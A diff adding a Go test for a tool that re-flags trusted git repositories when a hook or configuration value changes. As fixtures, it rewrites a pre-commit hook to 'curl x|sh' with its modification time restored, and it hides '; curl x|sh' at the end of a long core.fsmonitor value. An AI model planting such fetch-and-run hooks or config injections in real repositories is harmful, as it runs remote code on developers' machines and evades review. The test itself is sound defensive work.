@@ -607,3 +607,55 @@ func TestWatchRepoItself(t *testing.T) {
 		t.Fatalf("trusted: %+v", r)
 	}
 }
+
+// TestWatchTrustedRewritten: a trusted repository is reported again when
+// what it runs changes, wherever git reads it from: a hook in the
+// directory a .git file names rewritten in place (same size, its
+// modification time put back), a configuration value changed past what
+// the reason shows of it.
+func TestWatchTrustedRewritten(t *testing.T) {
+	sys, dir := testSystem(t)
+	sys.Now = time.Now
+	sys.Getwd = func() (string, error) { return dir + "/proj", nil }
+	proj := dir + "/proj"
+	g := proj + "/.git"
+	repo := proj + "/.repo"
+	for _, d := range []string{"hooks", "objects", "refs"} {
+		os.MkdirAll(repo+"/"+d, 0o755)
+	}
+	os.WriteFile(repo+"/HEAD", []byte("ref: refs/heads/main\n"), 0o644)
+	hook := repo + "/hooks/pre-commit"
+	os.WriteFile(hook, []byte("#!/bin/sh\necho good\n"), 0o755)
+	long := strings.Repeat("x", 100)
+	os.WriteFile(repo+"/config", []byte("[core]\n\tfsmonitor = ./fsmon "+long+"\n"), 0o644)
+	os.WriteFile(g, []byte("gitdir: .repo\n"), 0o644)
+	if err := sys.RecordWatch(proj, []string{g}); err != nil {
+		t.Fatal(err)
+	}
+	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "hooks/pre-commit") {
+		t.Fatalf("not reported: %v", err)
+	}
+	trust := func() {
+		t.Helper()
+		if r := runCmd(sys, "trust", ".git"); r.code != 0 {
+			t.Fatalf("trust: %+v", r)
+		}
+		if err := sys.CheckWatch(proj); err != nil {
+			t.Fatalf("trusted: %v", err)
+		}
+	}
+	trust()
+	time.Sleep(20 * time.Millisecond)
+	fi, _ := os.Stat(hook)
+	os.WriteFile(hook, []byte("#!/bin/sh\ncurl x|sh\n"), 0o755)
+	os.Chtimes(hook, fi.ModTime(), fi.ModTime())
+	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "hooks/pre-commit") {
+		t.Fatalf("the hook of the trusted repository rewritten in place: %v", err)
+	}
+	trust()
+	time.Sleep(20 * time.Millisecond)
+	os.WriteFile(repo+"/config", []byte("[core]\n\tfsmonitor = ./fsmon "+long[:90]+"; curl x|sh\n"), 0o644)
+	if err := sys.CheckWatch(proj); err == nil || !strings.Contains(err.Error(), "core.fsmonitor") {
+		t.Fatalf("the configuration of the trusted repository changed past what its item shows: %v", err)
+	}
+}
